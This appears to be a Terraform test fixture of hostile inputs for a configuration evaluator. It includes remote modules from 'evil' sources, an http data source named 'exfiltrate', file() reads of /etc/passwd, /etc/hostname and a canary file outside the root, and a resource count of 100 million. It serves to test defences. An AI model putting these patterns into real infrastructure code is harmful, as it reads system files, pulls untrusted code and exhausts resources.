# Reads outside the root, remote modules and data sources, and a huge expansion.
# Remote modules and data sources are never fetched: their values are unknown.
module "remote" {
  source = "git::https://example.com/evil/module.git"
}

module "registry" {
  source  = "evil/module/aws"
  version = "1.0.0"
}

module "loop" {
  source = "./loop"
}

data "http" "exfiltrate" {
  url = "https://example.com/"
}

resource "kubernetes_persistent_volume_claim" "passwd" {
  metadata {
    name = "passwd"
    labels = {
      remote = module.remote.name
      status = data.http.exfiltrate.status_code
    }
  }
  spec {
    access_modes       = ["ReadWriteOnce"]
    storage_class_name = file("/etc/passwd")
    volume_name        = file("../../canary.txt")
    resources {
      requests = {
        storage = templatefile("/etc/hostname", {})
      }
    }
  }
}

resource "kubernetes_persistent_volume_claim" "huge" {
  count = 100000000
  metadata {
    name = "huge-${count.index}"
  }
  spec {
    access_modes = ["ReadWriteOnce"]
    resources {
      requests = {
        storage = "1Gi"
      }
    }
  }
}
